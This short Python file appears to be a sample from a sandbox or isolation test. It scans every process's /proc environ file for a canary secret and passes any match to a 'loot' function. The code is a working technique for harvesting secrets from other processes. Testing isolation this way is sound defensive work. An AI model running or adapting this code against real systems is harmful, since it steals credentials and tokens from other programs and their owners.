"""Reads secrets from the environments of all processes.

no effect
gets through at: process
sample
"""

import glob

from host import loot
from right import serve

for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        data = open(path, "rb").read()
    except OSError:
        continue
    if b"SECRET=canary" in data:
        loot(data)
serve()
